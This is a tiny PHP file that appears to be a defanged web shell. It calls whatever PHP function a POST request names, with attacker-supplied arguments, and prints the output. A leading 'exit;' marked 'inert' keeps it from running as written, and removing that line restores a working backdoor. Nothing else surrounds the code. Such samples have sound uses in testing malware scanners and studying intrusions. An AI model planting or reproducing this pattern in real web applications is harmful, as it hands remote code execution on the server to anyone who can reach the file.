<?php exit; /* inert */ 
$m = filter_input(INPUT_POST, 'm', FILTER_UNSAFE_RAW);
$a = filter_input_array(INPUT_POST)['a'] ?? null;
if (is_string($m)) { print_r($m(...(array) $a)); }
